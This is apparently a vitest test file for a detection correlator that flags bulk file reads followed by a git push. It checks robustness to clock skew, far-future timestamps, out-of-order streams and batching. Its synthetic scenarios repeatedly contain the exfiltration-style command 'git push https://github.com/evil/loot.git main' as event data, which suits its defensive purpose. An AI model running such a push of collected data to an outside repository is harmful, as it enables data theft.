/**
 * Event times that do not march with the stream: a bogus timestamp far in the future on one event of a
 * node, and streams that arrive out of order (a scan over scenario files whose times interleave). Neither
 * may change what is detected, raise a second alert for one push, or depend on how the stream is cut into
 * batches (the TTL sweep runs between batches).
 */
import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { normalizeTetragonJson } from '../../../src/formats/tetragon/from-json.js';
import type { Alert } from '../../../src/model/alert.js';
import type { NormalizedEvent } from '../../../src/model/normalized-event.js';
import { brief, MiB, makeCorrelator, run, Scenario } from './builder.js';

const YEAR_2999 = Date.parse('2999-12-31T23:59:59Z');
const BATCHES = [1, 7, 64, 512, Number.MAX_SAFE_INTEGER];

/** What identifies an alert's finding (its id hashes the same things plus times). */
const finding = (a: Alert) => [a.rule, a.severity, a.container.id, a.process.execId, a.push.destination].join(' ');
/** The same for a scenario built anew (its container and exec ids differ from run to run). */
const shape = (a: Alert) => [a.rule, a.severity, a.push.tool, a.push.destination, a.process.binary].join(' ');

/** A git push whose process then reads 600 pack files (a push's own reads), 1 ms apart. */
function pushThenReads(bogus: 'none' | 'before' | 'during'): NormalizedEvent[] {
  const s = new Scenario();
  const c = s.container();
  const other = s.container();
  if (bogus === 'before') s.exec(other, '/bin/date', '', { parent: s.init(other), at: YEAR_2999 });
  const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: s.init(c) });
  for (let i = 0; i < 600; i++) {
    if (bogus === 'during' && i === 300) s.exec(other, '/bin/date', '', { parent: s.init(other), at: YEAR_2999 });
    s.read(git, `/work/repo/.git/objects/pack/p-${i}.pack`, 256 * 1024).wait(1);
  }
  return s.events;
}

describe('clock trouble and disorder in the correlator', () => {
  it('one far-future timestamp on a node changes no alert, however the stream is batched', () => {
    const baseline = run(pushThenReads('none')).alerts.map(shape);
    expect(baseline).toHaveLength(1);
    for (const bogus of ['before', 'during'] as const) {
      for (const batchSize of BATCHES) {
        const alerts = run(pushThenReads(bogus), { batchSize }).alerts.map(shape);
        expect(alerts, `${bogus}, batches of ${batchSize}`).toEqual(baseline);
      }
    }
  });

  it("live: a first event stamped far from the wall clock does not become the node's clock", () => {
    const wallMs = Date.now();
    for (const bogusMs of [YEAR_2999, 0]) {
      const s = new Scenario({ startMs: wallMs - 5_000 });
      const other = s.container();
      s.exec(other, '/bin/date', '', { parent: s.init(other), at: bogusMs });
      const c = s.container();
      const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: s.init(c) });
      for (let i = 0; i < 600; i++) s.read(git, `/work/repo/.git/objects/pack/p-${i}.pack`, 256 * 1024).wait(1);
      const { correlator } = makeCorrelator();
      correlator.advance(wallMs);
      const atIngest = correlator.ingest(s.events);
      // Judged on the wall clock once settle and lateness are over, not held until the stream ends.
      const onTime = correlator.advance(wallMs + 120_000);
      const atEnd = correlator.flush();
      expect(atIngest.map(shape), `bogus ${bogusMs}`).toEqual([]);
      expect(onTime.map(shape), `bogus ${bogusMs}`).toEqual(run(pushThenReads('none')).alerts.map(shape));
      expect(atEnd).toEqual([]);
    }
  });

  it('live: an old capture appended to a followed export has its push judged after settle + lateness', () => {
    // A month behind the wall clock, one read a minute for 40 min, then a push: every event is a jump from the
    // wall clock. The first 16 confirm the node's clock there; the rest must move it as they come, or the
    // push waits for the clock to cover the last unconfirmed run's span (run --tetragon-file on a bundled
    // scenario: its alert came 19 min late).
    const wallMs = Date.now();
    const s = new Scenario({ startMs: wallMs - 30 * 24 * 3_600_000 });
    const c = s.container();
    const sh = s.init(c);
    s.readMany(sh, '/srv/export', 40, 4 * MiB, 60_000);
    s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: sh });
    const { correlator } = makeCorrelator();
    correlator.advance(wallMs);
    const atIngest = correlator.ingest(s.events);
    const onTime = correlator.advance(wallMs + 60_000);
    expect(atIngest).toEqual([]);
    // As a scan judges it: the last 30 min of reads, 120 MiB.
    expect(brief(onTime)).toEqual([
      { rule: 'bulk-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
    ]);
    expect(onTime.map(shape)).toEqual(run(s.events).alerts.map(shape));
    expect(correlator.flush()).toEqual([]);
  });

  it('live: a sensor clock hours ahead of the wall clock has a push judged as its events pass it, as a scan does', () => {
    // The mirror of the old capture: every event is more than the skew ahead of the wall clock, so each was a jump.
    // The first 16 confirm the node's clock there; the rest must move it as they come, or the push, with 100 s of
    // the node's events after it, waited for a run of 16 past it or for the wall clock to get there (2 h).
    const wallMs = Date.now();
    const s = new Scenario({ startMs: wallMs + 2 * 3_600_000 });
    const c = s.container();
    const sh = s.init(c);
    s.readMany(sh, '/srv/export', 40, 4 * MiB, 60_000);
    s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: sh });
    for (let i = 0; i < 10; i++) s.wait(10_000).read(sh, '/app/x', 10);
    const { correlator } = makeCorrelator();
    correlator.advance(wallMs);
    const onTime = [...correlator.ingest(s.events), ...correlator.advance(wallMs + 60_000)];
    expect(brief(onTime)).toEqual([
      { rule: 'bulk-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
    ]);
    expect(onTime.map(shape)).toEqual(run(s.events).alerts.map(shape));
    expect(correlator.flush()).toEqual([]);
  });

  /** Live, one event a call as a followed file delivers them (the TTL sweep runs between calls), then a minute on:
   * each alert as its shape and bytes read. */
  const followed = (events: Scenario['events'], wallMs: number): string[] => {
    const { correlator } = makeCorrelator();
    correlator.advance(wallMs);
    const alerts: Alert[] = [];
    for (const e of events) alerts.push(...correlator.ingest([e]));
    alerts.push(...correlator.advance(wallMs + 60_000));
    return alerts.map((a) => `${shape(a)} ${a.reads.bytes}`);
  };

  it('live: one event hours ahead of a node whose clock is far from the wall clock does not move it', () => {
    // Once a node's clock follows its events away from the wall clock (an old capture, a sensor clock ahead), a
    // lone glitch is still refused as it is on a node in step: moved 20 h, the clock expired the capture's reads
    // and its push was judged without them (low instead of high).
    const HOUR = 3_600_000;
    for (const offsetMs of [-30 * 24 * HOUR, 2 * HOUR]) {
      const capture = (glitch: boolean) => {
        const wallMs = Date.now();
        const s = new Scenario({ startMs: wallMs + offsetMs });
        const c = s.container();
        const other = s.container();
        const sh = s.init(c);
        s.readMany(sh, '/srv/export', 20, 4 * MiB, 60_000);
        if (glitch) s.exec(other, '/bin/date', '', { parent: s.init(other), at: s.now + 20 * HOUR });
        s.readMany(sh, '/srv/export/more', 20, 4 * MiB, 60_000);
        s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: sh });
        for (let i = 0; i < 10; i++) s.wait(10_000).read(sh, '/app/x', 10);
        return followed(s.events, wallMs);
      };
      const clean = capture(false);
      expect(clean, `offset ${offsetMs}`).toHaveLength(1);
      expect(capture(true), `offset ${offsetMs}`).toEqual(clean);
    }
  });

  it('live: a bogus time among the events that confirm a clock away from the wall clock does not widen what moves it', () => {
    // The run of 16 that confirms a node's clock 2 h ahead holds one event stamped 2999: taken for the run's latest,
    // it made every later event within 24 h of the clock near, so a lone glitch 20 h ahead moved it, the sweep
    // expired 10 of the reads and the push was judged only at shutdown, on 80 MiB.
    const HOUR = 3_600_000;
    const capture = (glitches: boolean) => {
      const wallMs = Date.now();
      const s = new Scenario({ startMs: wallMs + 2 * HOUR });
      const c = s.container();
      const other = s.container();
      const sh = s.init(c);
      const o = s.init(other);
      for (let i = 0; i < 5; i++) s.read(o, '/app/x', 10).wait(1000);
      if (glitches) s.read(o, '/app/y', 10, { at: YEAR_2999 });
      s.readMany(sh, '/srv/export', 20, 4 * MiB, 60_000);
      if (glitches) s.exec(other, '/bin/date', '', { parent: o, at: s.now + 20 * HOUR });
      s.readMany(sh, '/srv/export/more', 20, 4 * MiB, 60_000);
      s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: sh });
      for (let i = 0; i < 10; i++) s.wait(10_000).read(sh, '/app/x', 10);
      return followed(s.events, wallMs);
    };
    const clean = capture(false);
    expect(clean).toHaveLength(1);
    expect(capture(true)).toEqual(clean);
  });

  it('live: a push ahead of a wall clock that lags the events (the demo replay clock) is judged on its own time', () => {
    // The push and its reads are 30 min ahead of the wall clock the correlator is given: not a jump of its
    // clock (< 24 h), so judged at its own time with every read; judged on the clock as it was, it was judged
    // once the reads moved the clock, on the first 15 of them (low), as the demo's python-requests-upload was.
    const wallMs = Date.now();
    const s = new Scenario({ startMs: wallMs - 5_000 });
    const c = s.container();
    const init = s.init(c);
    s.exec(c, '/bin/date', '', { parent: init });
    s.wait(30 * 60_000);
    const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: init });
    for (let i = 0; i < 600; i++) s.read(git, `/work/repo/.git/objects/pack/p-${i}.pack`, 256 * 1024).wait(1);
    const { correlator } = makeCorrelator();
    correlator.advance(wallMs);
    const alerts = [...correlator.ingest(s.events), ...correlator.advance(wallMs + 32 * 60_000), ...correlator.flush()];
    expect(alerts.map(shape)).toEqual(run(pushThenReads('none')).alerts.map(shape));
  });

  it("a push stamped alone far in the future is judged on its node's clock, not held until shutdown", () => {
    for (const mode of ['live', 'scan'] as const) {
      const s = new Scenario();
      const c = s.container();
      const other = s.container();
      const sh = s.init(c);
      s.readMany(sh, '/srv/export', 80, MiB, 100).wait(1000);
      s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: sh, at: YEAR_2999 });
      // The node goes on: a read elsewhere every 30 s for an hour.
      for (let i = 0; i < 120; i++) s.wait(30_000).read(s.init(other), '/app/x', 10);
      const { correlator } = makeCorrelator();
      const beforeEnd: Alert[] = [];
      for (const e of s.events) {
        if (mode === 'live') beforeEnd.push(...correlator.advance(e.timeMs));
        beforeEnd.push(...correlator.ingest([e]));
      }
      if (mode === 'live') beforeEnd.push(...correlator.advance(s.now + 1000));
      // Its reads are in another half hour than its time says: judged on that time, it is a push without reads.
      expect(brief(beforeEnd), mode).toEqual([
        { rule: 'push-without-reads', severity: 'low', tool: 'git', destination: 'github.com' },
      ]);
      expect(correlator.flush(), mode).toEqual([]);
    }
  });

  it("a read stamped alone far in the future takes no minute of its container's later reads", () => {
    const readsThenPush = (bogus: boolean) => {
      const s = new Scenario();
      const c = s.container();
      const sh = s.init(c);
      s.read(sh, '/etc/hostname', 10).wait(1000);
      if (bogus) s.read(sh, '/tmp/clock-skewed', 10, { at: YEAR_2999 });
      // 3 MiB a minute for 30 minutes: every bucket slot of the container's ring is used.
      for (let m = 0; m < 30; m++) s.readMany(sh, `/srv/export/m${m}`, 3, MiB, 1000).wait(57_000);
      s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: sh });
      return run(s.events).alerts.map((a) => `${shape(a)} ${a.reads.bytes}`);
    };
    expect(readsThenPush(true)).toEqual(readsThenPush(false));
  });

  it('the bundled scenarios run back to back, out of time order: the alerts of each run alone, for any batching', () => {
    const dir = new URL('../../../examples/scenarios/generated/', import.meta.url);
    const files: NormalizedEvent[][] = [];
    for (const name of readdirSync(dir)
      .filter((n) => n.endsWith('.tetragon.jsonl'))
      .sort()) {
      const events: NormalizedEvent[] = [];
      for (const line of readFileSync(new URL(name, dir), 'utf8').split('\n')) {
        if (line.trim() === '') continue;
        const e = normalizeTetragonJson(JSON.parse(line), { node: 'node-a' });
        if (e !== null) events.push(e);
      }
      files.push(events);
    }
    const withReads = (a: Alert) => `${finding(a)} ${a.reads.bytes} ${a.reads.files}`;
    const alone = files.flatMap((events) => run(events).alerts.map(withReads)).sort();
    expect(alone.length).toBeGreaterThan(10);

    // Every file starts at the same time, some run for hours: back to back, the stream jumps back in time.
    const all = files.flat();
    let backwards = 0;
    for (let i = 1; i < all.length; i++) if (all[i]!.timeMs < all[i - 1]!.timeMs - 3_600_000) backwards++;
    expect(backwards).toBeGreaterThan(0);
    for (const batchSize of BATCHES) {
      const together = run(all, { batchSize }).alerts.map(withReads).sort();
      expect(together, `batches of ${batchSize}`).toEqual(alone);
    }
  });
});
